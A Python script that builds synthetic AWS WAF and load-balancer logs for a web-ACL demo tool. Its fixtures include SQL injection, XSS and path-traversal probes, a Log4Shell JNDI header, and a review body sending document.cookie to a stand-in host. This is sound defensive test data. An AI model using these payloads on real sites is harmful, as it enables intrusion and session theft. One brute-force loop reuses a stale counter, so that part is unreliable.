"""Regenerate the bundled sample logs (deterministic: fixed seed, fixed gzip mtime).

    python samples/make_samples.py

One hour of traffic to a shop behind an ALB with `rulesets/demo-webacl.json`: shoppers from
several countries, a scanner with a tool User-Agent, SQL injection / XSS / path traversal
probes, a login brute force that trips the rate rule, admin access from inside and outside the
office. The logged outcome is what that web ACL decides, except for a few records logged while
an older version of the ACL was deployed (see samples/README.md), so `--compare` has something
to show.
"""

from __future__ import annotations

import gzip
import json
import random
import re
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
ACCOUNT = "111122223333"
ACL_ARN = f"arn:aws:wafv2:eu-west-1:{ACCOUNT}:regional/webacl/shop-demo/e5b7a6f8-5555-4e9f-a0b1-4c5d6e7f8091"
NAMESPACE = f"awswaf:{ACCOUNT}:webacl:shop-demo:"
ALB_ID = "app/shop-alb/50dc6c495c0c9188"
START_MS = int(datetime(2024, 5, 14, 9, 0, tzinfo=UTC).timestamp() * 1000)

OFFICE = [f"192.0.2.{i}" for i in range(17, 31)]
ALLOW_LIST = ["192.0.2.200", "192.0.2.201"]
BLOCK_LIST = [f"198.51.100.{i}" for i in (7, 23, 41)] + ["203.0.113.77"]
GEO_BLOCKED = {"RU", "BY", "KP", "IR"}
REGIONS = {
    "DE": "DE-BE",
    "FR": "FR-IDF",
    "NL": "NL-NH",
    "GB": "GB-ENG",
    "US": "US-VA",
    "ES": "ES-MD",
    "IT": "IT-25",
    "PL": "PL-14",
    "RU": "RU-MOW",
    "BY": "BY-HM",
    "CN": "CN-BJ",
    "BR": "BR-SP",
}
BAD_BOT = re.compile(
    r"sqlmap|nikto|nmap scripting engine|masscan|zgrab|nuclei|wpscan|(?:dir|go)buster|acunetix|havij"
)
SUSPICIOUS_UA = re.compile(r"^(?:curl|wget|python-requests|go-http-client|java)/")

_WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
_SAFARI = "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1"
BROWSERS = [
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_WEBKIT} Chrome/124.0.0.0 Safari/537.36",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_SAFARI} Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) {_SAFARI} Mobile/15E148 Safari/604.1",
    f"Mozilla/5.0 (Linux; Android 14; Pixel 8) {_WEBKIT} Chrome/124.0.6367.82 Mobile Safari/537.36",
]
LANGS = {
    "DE": "de-DE,de;q=0.9,en;q=0.8",
    "FR": "fr-FR,fr;q=0.9",
    "NL": "nl-NL,nl;q=0.9,en;q=0.8",
    "GB": "en-GB,en;q=0.9",
    "US": "en-US,en;q=0.9",
    "ES": "es-ES,es;q=0.9",
    "IT": "it-IT,it;q=0.9",
    "PL": "pl-PL,pl;q=0.9",
    "BR": "pt-BR,pt;q=0.9",
}
PAGES = [
    "/",
    "/products",
    "/products/running-shoes",
    "/products/rain-jacket",
    "/products/wool-socks",
    "/cart",
    "/search",
    "/category/outdoor",
    "/category/kids",
    "/help/shipping",
    "/static/app.3f9c1e.js",
    "/static/styles.8a1b2c.css",
    "/images/hero-summer.webp",
    "/api/v1/products",
    "/api/v1/cart",
    "/account",
]
SEARCHES = ["red shoes", "rain jacket", "socks", "tent 2 person", "gift card", "o'neill hoodie", "50% sale"]


@dataclass
class Req:
    ms: int
    ip: str
    country: str
    method: str
    uri: str
    args: str = ""
    ua: str | None = BROWSERS[0]
    lang: str | None = "en-GB,en;q=0.9"
    host: str = "shop.example.com"
    body: str | None = None
    content_type: str | None = None
    cookie: str | None = None
    referer: str | None = None
    attack: str | None = None  # "sqli-query" etc.: which protection the generator aimed at
    logged_override: tuple[str, str] | None = None  # (action, rule) logged by an older ACL version
    extra_headers: list[tuple[str, str]] = field(default_factory=list)


def headers(r: Req) -> list[dict[str, str]]:
    out = [("Host", r.host)]
    if r.ua is not None:
        out.append(("User-Agent", r.ua))
    out.append(
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
            if r.ua and r.ua.startswith("Mozilla")
            else "*/*",
        )
    )
    if r.lang:
        out.append(("Accept-Language", r.lang))
    out.append(("Accept-Encoding", "gzip, deflate, br"))
    if r.referer:
        out.append(("Referer", r.referer))
    if r.cookie:
        out.append(("Cookie", r.cookie))
    if r.content_type:
        out.append(("Content-Type", r.content_type))
        out.append(("Content-Length", str(len((r.body or "").encode()))))
    out += r.extra_headers
    return [{"name": n, "value": v} for n, v in out]


# AWS's Known bad inputs group in the demo ACL: what its log entries record, per probe kind
# (inner rule, label). AWS's rules are not published; the log says which one matched.
KNOWN_BAD_INPUTS = "AWS#AWSManagedRulesKnownBadInputsRuleSet"
KBI_NAMESPACE = "awswaf:managed:aws:known-bad-inputs:"
KBI_RULES = {
    "log4j": ("Log4JRCE_HEADER", KBI_NAMESPACE + "Log4JRCE_Header"),
    "exploitable-path": ("ExploitablePaths_URIPATH", KBI_NAMESPACE + "ExploitablePaths_URIPath"),
}


def decide(
    r: Req, login_hits: dict[str, list[int]], groups: list[dict[str, object]] | None = None
) -> tuple[str, str, str, list[str], list[str], int | None]:
    """(action, rule, rule type, labels, non-terminating rule ids, custom status) per the demo ACL.

    `groups` receives the ruleGroupList entries of the rule groups evaluated."""
    labels: list[str] = []
    counted: list[str] = []
    groups = [] if groups is None else groups
    if r.ip in ALLOW_LIST:
        return "ALLOW", "allow-partners", "REGULAR", labels, counted, None
    if r.ip in BLOCK_LIST:
        return "BLOCK", "block-ip-blocklist", "REGULAR", labels, counted, None
    labels += [f"awswaf:clientip:geo:country:{r.country}", f"awswaf:clientip:geo:region:{REGIONS[r.country]}"]
    if r.country in GEO_BLOCKED:
        return "BLOCK", "geo-block", "REGULAR", labels, counted, None
    entry: dict[str, object] = {
        "ruleGroupId": KNOWN_BAD_INPUTS,
        "terminatingRule": None,
        "nonTerminatingMatchingRules": [],
        "excludedRules": None,
    }
    groups.append(entry)
    if r.attack in KBI_RULES:
        inner, label = KBI_RULES[r.attack]
        entry["terminatingRule"] = {"ruleId": inner, "action": "BLOCK", "ruleMatchDetails": []}
        labels.append(label)
        return "BLOCK", "aws-known-bad-inputs", "MANAGED_RULE_GROUP", labels, counted, None
    ua = (r.ua or "").lower()
    if BAD_BOT.search(ua):
        return "BLOCK", "block-bad-bots", "REGULAR", labels, counted, None
    if not r.ua:
        return "BLOCK", "block-missing-user-agent", "REGULAR", labels, counted, None
    if r.host not in ("shop.example.com", "api.example.com"):
        return "BLOCK", "block-unknown-host", "REGULAR", labels, counted, None
    rule = {
        "traversal": "block-path-traversal",
        "sqli-query": "block-sqli-query",
        "sqli-body": "block-sqli-body",
        "xss-query": "block-xss-query",
        "xss-body": "block-xss-body",
    }.get(r.attack or "")
    if rule:
        return "BLOCK", rule, "REGULAR", labels, counted, None
    if r.body is not None and len(r.body.encode()) > 8192:
        return "BLOCK", "block-large-body", "REGULAR", labels, counted, 413
    if r.uri.lower().startswith("/admin") and r.ip not in OFFICE:
        return "BLOCK", "admin-office-only", "REGULAR", labels, counted, 403
    if not r.lang or SUSPICIOUS_UA.search(ua):
        counted.append("tag-suspicious-client")
        labels.append(NAMESPACE + "shop:suspicious-client")
        if r.uri.lower().startswith("/checkout"):
            return "BLOCK", "block-suspicious-checkout", "REGULAR", labels, counted, 403
    if r.uri.lower().startswith("/login"):
        hits = login_hits.setdefault(r.ip, [])
        hits.append(r.ms)
        if len([t for t in hits if t > r.ms - 60_000]) > 20:
            return "BLOCK", "rate-limit-login", "RATE_BASED", labels, counted, 429
    return "ALLOW", "Default_Action", "REGULAR", labels, counted, None


def shopper(rng: random.Random, ms: int) -> list[Req]:
    country = rng.choice(["DE", "DE", "FR", "NL", "GB", "GB", "US", "ES", "IT", "PL", "BR"])
    ip = (
        f"203.0.113.{rng.randrange(100, 250)}"
        if rng.random() < 0.6
        else f"198.51.100.{rng.randrange(70, 250)}"
    )
    ua, lang = rng.choice(BROWSERS), LANGS[country]
    cookie = f"session={rng.getrandbits(128):032x}; consent=1" if rng.random() < 0.7 else None
    out, referer = [], None
    for _ in range(rng.randrange(2, 7)):
        uri, args = rng.choice(PAGES), ""
        if uri == "/search":
            args = "q=" + rng.choice(SEARCHES).replace(" ", "+").replace("%", "%25").replace("'", "%27")
        elif uri.startswith("/products") or uri.startswith("/category"):
            args = rng.choice(
                ["", "", "sort=price&page=2", "color=blue", "utm_source=newsletter&utm_medium=email"]
            )
        out.append(Req(ms, ip, country, "GET", uri, args, ua, lang, cookie=cookie, referer=referer))
        referer = f"https://shop.example.com{uri}"
        ms += rng.randrange(800, 20_000)
    if rng.random() < 0.3:
        out.append(
            Req(ms, ip, country, "POST", "/checkout/payment", "", ua, lang, cookie=cookie, referer=referer)
        )
    return out


def story(rng: random.Random, shoppers: int) -> list[Req]:
    reqs: list[Req] = []
    hour = 3_600_000
    for _ in range(shoppers):
        reqs += shopper(rng, START_MS + rng.randrange(hour))
    for i in range(12):  # uptime monitor on the allow list
        reqs.append(
            Req(
                START_MS + i * 300_000,
                rng.choice(ALLOW_LIST),
                "US",
                "GET",
                "/health",
                ua="UptimeRobot/2.0",
                lang=None,
            )
        )
    for _ in range(6):  # known bad addresses
        reqs.append(
            Req(
                START_MS + rng.randrange(hour),
                rng.choice(BLOCK_LIST),
                rng.choice(["CN", "BR", "US"]),
                "GET",
                rng.choice(["/", "/wp-login.php", "/.env"]),
                ua=BROWSERS[2],
            )
        )
    for _ in range(5):  # geo-blocked countries
        reqs.append(
            Req(
                START_MS + rng.randrange(hour),
                f"203.0.113.{rng.randrange(10, 60)}",
                "RU",
                "GET",
                "/products",
                ua=BROWSERS[0],
                lang="ru-RU,ru;q=0.9",
            )
        )
    scan_start = START_MS + 20 * 60_000  # a scanner walks the site
    for i, (uri, args) in enumerate(
        [
            ("/", ""),
            ("/.git/config", ""),
            ("/admin/", ""),
            ("/phpmyadmin/", ""),
            ("/search", "q=%27%20OR%201%3D1--"),
            ("/backup.zip", ""),
            ("/.env", ""),
            ("/wp-admin/setup-config.php", ""),
            ("/cgi-bin/test.cgi", ""),
            ("/server-status", ""),
        ]
    ):
        reqs.append(
            Req(
                scan_start + i * 700,
                "198.51.100.150",
                "NL",
                "GET",
                uri,
                args,
                ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
                lang=None,
            )
        )
    probes = [
        ("sqli-query", "/search", "q=shoes%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--"),
        ("sqli-query", "/products", "id=1%20OR%201%3D1"),
        ("sqli-query", "/products", "id=1%27%3B%20DROP%20TABLE%20orders%3B--"),
        ("sqli-query", "/search", "q=%26%23x27%3B%20or%20%26%23x27%3B1%26%23x27%3B%3D%26%23x27%3B1"),
        ("xss-query", "/search", "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
        ("xss-query", "/search", "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        ("xss-query", "/help/shipping", "ref=javascript:alert(1)"),
        ("traversal", "/static/..%2f..%2f..%2fetc%2fpasswd", ""),
        ("traversal", "/images/%252e%252e%252f%252e%252e%252fetc/passwd", ""),
        ("traversal", "/download", "file=../../config/database.yml"),
    ]
    for i in range(18):
        attack, uri, args = probes[i % len(probes)]
        reqs.append(
            Req(
                START_MS + rng.randrange(hour),
                f"203.0.113.{rng.randrange(60, 99)}",
                rng.choice(["CN", "US", "BR"]),
                "GET",
                uri,
                args,
                ua=rng.choice([*BROWSERS, "curl/8.4.0", "python-requests/2.31.0"]),
                attack=attack,
            )
        )
    for body in (
        "username=admin%27--&password=x",
        "username=%27%20or%20%271%27%3D%271&password=%27%20or%20%271%27%3D%271",
    ):
        reqs.append(
            Req(
                START_MS + rng.randrange(hour),
                "203.0.113.61",
                "CN",
                "POST",
                "/login",
                ua=BROWSERS[1],
                body=body,
                content_type="application/x-www-form-urlencoded",
                attack="sqli-body",
            )
        )
    reqs.append(
        Req(
            START_MS + rng.randrange(hour),
            "203.0.113.62",
            "BR",
            "POST",
            "/products/rain-jacket/reviews",
            ua=BROWSERS[0],
            body="rating=5&text=%3Cscript%3Efetch(%27//x.example/%27%2Bdocument.cookie)%3C%2Fscript%3E",
            content_type="application/x-www-form-urlencoded",
            attack="xss-body",
        )
    )
    brute = START_MS + 35 * 60_000  # credential stuffing from one address
    for _ in range(45):
        reqs.append(
            Req(
                brute + i * 1_500,
                "198.51.100.99",
                "US",
                "POST",
                "/login",
                ua="python-requests/2.31.0",
                lang=None,
                body=f"username=user{i}%40example.com&password=Summer2024%21",
                content_type="application/x-www-form-urlencoded",
            )
        )
    for _ in range(6):  # admin from the office, then from outside
        reqs.append(
            Req(
                START_MS + rng.randrange(hour),
                rng.choice(OFFICE),
                "DE",
                "GET",
                rng.choice(["/admin", "/admin/orders", "/admin/products/edit"]),
                ua=BROWSERS[0],
                lang=LANGS["DE"],
            )
        )
    for _ in range(4):
        reqs.append(
            Req(
                START_MS + rng.randrange(hour),
                f"198.51.100.{rng.randrange(200, 250)}",
                "FR",
                "GET",
                rng.choice(["/admin", "/Admin/login", "/admin/users"]),
                ua=BROWSERS[3],
                lang=LANGS["FR"],
            )
        )
    for _ in range(3):  # scripts hitting checkout, hosts nobody should use, no User-Agent
        reqs.append(
            Req(
                START_MS + rng.randrange(hour),
                f"203.0.113.{rng.randrange(60, 99)}",
                "US",
                "POST",
                "/checkout",
                ua="curl/8.4.0",
                lang=None,
                body="coupon=WELCOME10",
                content_type="application/x-www-form-urlencoded",
            )
        )
    reqs.append(
        Req(START_MS + rng.randrange(hour), "203.0.113.5", "US", "GET", "/", ua=BROWSERS[0], host="10.0.1.7")
    )
    reqs.append(Req(START_MS + rng.randrange(hour), "203.0.113.6", "GB", "GET", "/", ua=None, lang=None))
    # Logged while an older version of the ACL was deployed: no geo block yet, a since-removed
    # rule against an SEO crawler, and an office address that was not in the IP set yet.
    for _ in range(3):
        reqs.append(
            Req(
                START_MS + rng.randrange(600_000),
                f"203.0.113.{rng.randrange(10, 60)}",
                "BY",
                "GET",
                "/products",
                ua=BROWSERS[2],
                lang="be-BY,be;q=0.9,ru;q=0.8",
                logged_override=("ALLOW", "Default_Action"),
            )
        )
    for _ in range(2):
        reqs.append(
            Req(
                START_MS + rng.randrange(600_000),
                "198.51.100.180",
                "US",
                "GET",
                "/products",
                ua="Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
                lang=None,
                logged_override=("BLOCK", "block-seo-crawlers"),
            )
        )
    reqs.append(
        Req(
            START_MS + 120_000,
            OFFICE[-1],
            "DE",
            "GET",
            "/admin/orders",
            ua=BROWSERS[0],
            lang=LANGS["DE"],
            logged_override=("BLOCK", "admin-office-only"),
        )
    )
    reqs.sort(key=lambda r: r.ms)
    return reqs


def request_id(rng: random.Random, ms: int) -> str:
    return f"1-{ms // 1000:08x}-{rng.getrandbits(96):024x}"


def waf_record(r: Req, rng: random.Random, hits: dict[str, list[int]]) -> dict[str, object]:
    groups: list[dict[str, object]] = []
    action, rule, rule_type, labels, counted, status = decide(r, hits, groups)
    if r.logged_override:
        action, rule = r.logged_override
        rule_type, status = "REGULAR", (403 if rule == "admin-office-only" else None)
    details = []
    if rule in ("block-sqli-query", "block-sqli-body", "block-xss-query", "block-xss-body"):
        details = [
            {
                "conditionType": "SQL_INJECTION" if "sqli" in rule else "XSS",
                **({"sensitivityLevel": "LOW"} if "sqli" in rule else {}),
                "location": "BODY" if rule.endswith("body") else "QUERY_STRING",
                "matchedData": ["'", "OR"] if "sqli" in rule else ["<", "script"],
            }
        ]
    size = len((r.body or "").encode())
    record: dict[str, object] = {
        "timestamp": r.ms,
        "formatVersion": 1,
        "webaclId": ACL_ARN,
        "terminatingRuleId": rule,
        "terminatingRuleType": rule_type,
        "action": action,
        "terminatingRuleMatchDetails": details,
        "httpSourceName": "ALB",
        "httpSourceId": f"{ACCOUNT}-{ALB_ID}",
        "ruleGroupList": groups,
        "rateBasedRuleList": [
            {
                "rateBasedRuleId": "c0ffee00-1234-4abc-9def-0123456789ab",
                "rateBasedRuleName": rule,
                "limitKey": "IP",
                "maxRateAllowed": 20,
                "evaluationWindowSec": "60",
                "limitValue": r.ip,
            }
        ]
        if rule_type == "RATE_BASED"
        else [],
        "nonTerminatingMatchingRules": [
            {"ruleId": c, "action": "COUNT", "ruleMatchDetails": []} for c in counted
        ],
        "requestHeadersInserted": None,
        "responseCodeSent": status,
        "httpRequest": {
            "clientIp": r.ip,
            "country": r.country,
            "headers": headers(r),
            "uri": r.uri,
            "args": r.args,
            "httpVersion": "HTTP/2.0" if r.ua and "Chrome" in r.ua else "HTTP/1.1",
            "httpMethod": r.method,
            "requestId": request_id(rng, r.ms),
            "scheme": "https",
            "host": r.host,
        },
        "requestBodySize": size,
        "requestBodySizeInspectedByWAF": min(size, 8192),
    }
    if labels:
        record["labels"] = [{"name": name} for name in labels]
    return record


def iso(ms: int) -> str:
    return datetime.fromtimestamp(ms / 1000, UTC).strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"


def alb_line(r: Req, rng: random.Random, hits: dict[str, list[int]], failed: bool) -> str:
    action, _, _, _, _, status = decide(r, hits)
    if r.logged_override:
        action = r.logged_override[0]
        status = 403 if r.logged_override[1] == "admin-office-only" else None
    blocked = action == "BLOCK" and not failed
    code = (status or 403) if blocked else rng.choice([200] * 12 + [304, 302, 404])
    if r.uri == "/checkout/payment" and not blocked:
        code = 302
    target, tstatus = ("-", "-") if blocked else ("10.0.1.7:8080", str(code))
    query = f"?{r.args}" if r.args else ""
    body = len((r.body or "").encode())
    version = "HTTP/2.0" if r.ua and "Chrome" in r.ua else "HTTP/1.1"
    fields = [
        "h2" if r.ua and "Chrome" in r.ua else "https",
        iso(r.ms + rng.randrange(3, 90)),
        ALB_ID,
        f"{r.ip}:{rng.randrange(1024, 65535)}",
        target,
        f"{rng.randrange(1, 4) / 1000:.3f}",
        "-1" if blocked else f"{rng.randrange(4, 80) / 1000:.3f}",
        "0.000",
        str(code),
        tstatus,
        str(420 + body + rng.randrange(0, 300)),
        str(230 if blocked else rng.randrange(900, 48_000)),
        f'"{r.method} https://{r.host}:443{r.uri}{query} {version}"',
        '"' + (r.ua or "-").replace('"', '\\"') + '"',
        "ECDHE-RSA-AES128-GCM-SHA256",
        "TLSv1.2",
        f"arn:aws:elasticloadbalancing:eu-west-1:{ACCOUNT}:targetgroup/shop-web/73e2d6bc24d8a067",
        f'"Root={request_id(rng, r.ms)}"',
        f'"{r.host}"',
        f'"arn:aws:acm:eu-west-1:{ACCOUNT}:certificate/5f6a7b8c-9d0e-4f1a-8b2c-3d4e5f6a7b8c"',
        "-" if blocked else "1",
        iso(r.ms),
        '"waf-failed,forward"' if failed else ('"waf"' if blocked else '"waf,forward"'),
        '"-"',
        '"WAFConnectionTimeout"' if failed else '"-"',
        '"-"' if blocked else '"10.0.1.7:8080"',
        '"-"' if blocked else f'"{code}"',
        '"-"',
        '"-"',
        f"TID_{rng.getrandbits(64):016x}",
        '"-"',
        '"-"',
        '"-"',
    ]
    return " ".join(fields)


def request_lines(rng: random.Random) -> list[dict[str, object]]:
    ms = START_MS + 2 * 3_600_000
    lines: list[dict[str, object]] = []

    def add(
        method: str,
        uri: str,
        body: str | None = None,
        ctype: str = "application/x-www-form-urlencoded",
        args: str = "",
        ip: str = "203.0.113.140",
        ua: str = BROWSERS[0],
    ) -> None:
        nonlocal ms
        ms += rng.randrange(500, 30_000)
        heads = [
            {"name": "Host", "value": "shop.example.com"},
            {"name": "User-Agent", "value": ua},
            {"name": "Accept", "value": "*/*"},
            {"name": "Accept-Language", "value": "en-GB,en;q=0.9"},
        ]
        line: dict[str, object] = {
            "timestamp": ms,
            "clientIp": ip,
            "country": "GB",
            "httpMethod": method,
            "uri": uri,
            "args": args,
            "httpVersion": "HTTP/1.1",
            "headers": heads,
        }
        if body is not None:
            heads.append({"name": "Content-Type", "value": ctype})
            line["body"] = body
        lines.append(line)

    for user in ("alice", "bob", "chloe", "dmitri", "emma"):
        add("POST", "/login", f"username={user}%40example.com&password=correct-horse-{rng.randrange(1000)}")
    for text in (
        "Great jacket, keeps me dry.",
        "Runs a bit small - order one size up.",
        "5 stars & fast shipping!",
    ):
        add(
            "POST",
            "/products/rain-jacket/reviews",
            "rating=5&text=" + text.replace(" ", "+").replace("&", "%26"),
        )
    for payload in (
        '{"items": [{"sku": "RJ-204", "qty": 1}], "coupon": null}',
        '{"query": "socks", "page": 2}',
    ):
        add("POST", "/api/v1/cart", payload, "application/json")
    add("GET", "/search", args="q=wool+socks")
    add("GET", "/products/running-shoes")
    add("POST", "/login", "username=admin%27--&password=x", ip="203.0.113.61")
    add("POST", "/login", "username=%27+OR+%271%27%3D%271&password=%27+OR+%271%27%3D%271", ip="203.0.113.61")
    add(
        "POST",
        "/api/v1/cart",
        '{"items": [{"sku": "1 UNION SELECT card_number FROM payments--", "qty": 1}]}',
        "application/json",
        ip="203.0.113.61",
    )
    add(
        "POST",
        "/products/rain-jacket/reviews",
        "rating=1&text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        ip="203.0.113.62",
    )
    add(
        "POST",
        "/products/rain-jacket/reviews",
        "rating=1&text=%3Csvg%20onload%3Dalert(1)%3E",
        ip="203.0.113.62",
    )
    add("POST", "/account/avatar", "A" * 9000, "application/octet-stream")
    add("POST", "/account/avatar", "A" * 4000, "application/octet-stream")
    add("POST", "/checkout", "coupon=WELCOME10", ua="curl/8.4.0")
    return lines


def known_bad_inputs(rng: random.Random) -> list[Req]:
    """Probes AWS's Known bad inputs group blocks: Log4Shell in a header, exploitable paths.

    Two Log4Shell probes were logged while the group was in Count mode (OverrideAction Count:
    the record keeps the group's terminating rule, the request went on to the default Allow).
    """
    reqs = []
    for i in range(4):
        reqs.append(
            Req(
                START_MS + rng.randrange(3_600_000),
                f"198.51.100.{rng.randrange(64, 69)}",
                "US",
                "GET",
                "/",
                ua=BROWSERS[1],
                attack="log4j",
                extra_headers=[("X-Api-Version", "${jndi:ldap://198.51.100.66:1389/a}")],
                logged_override=("ALLOW", "Default_Action") if i < 2 else None,
            )
        )
    for path in ("/.git/config", "/WEB-INF/web.xml", "/static/.svn/entries"):
        reqs.append(
            Req(
                START_MS + rng.randrange(3_600_000),
                "198.51.100.69",
                "NL",
                "GET",
                path,
                ua=BROWSERS[2],
                attack="exploitable-path",
            )
        )
    return reqs


def main() -> None:
    rng = random.Random(20240514)
    waf_reqs = story(rng, shoppers=110) + known_bad_inputs(random.Random(20240517))
    waf_reqs.sort(key=lambda r: r.ms)
    hits: dict[str, list[int]] = {}
    records = [json.dumps(waf_record(r, rng, hits), separators=(",", ":")) for r in waf_reqs]
    (HERE / "waf-logs.jsonl.gz").write_bytes(gzip.compress(("\n".join(records) + "\n").encode(), mtime=0))

    rng = random.Random(20240515)
    alb_reqs = story(rng, shoppers=20)
    hits = {}
    failed = {rng.randrange(len(alb_reqs)) for _ in range(2)}
    lines = [alb_line(r, rng, hits, i in failed) for i, r in enumerate(alb_reqs)]
    (HERE / "alb-access.log").write_text("\n".join(lines) + "\n")

    rng = random.Random(20240516)
    out = [json.dumps(line, separators=(",", ":")) for line in request_lines(rng)]
    (HERE / "requests.jsonl").write_text("\n".join(out) + "\n")
    print(f"{len(records)} WAF records, {len(lines)} ALB lines, {len(out)} request lines")


if __name__ == "__main__":
    main()
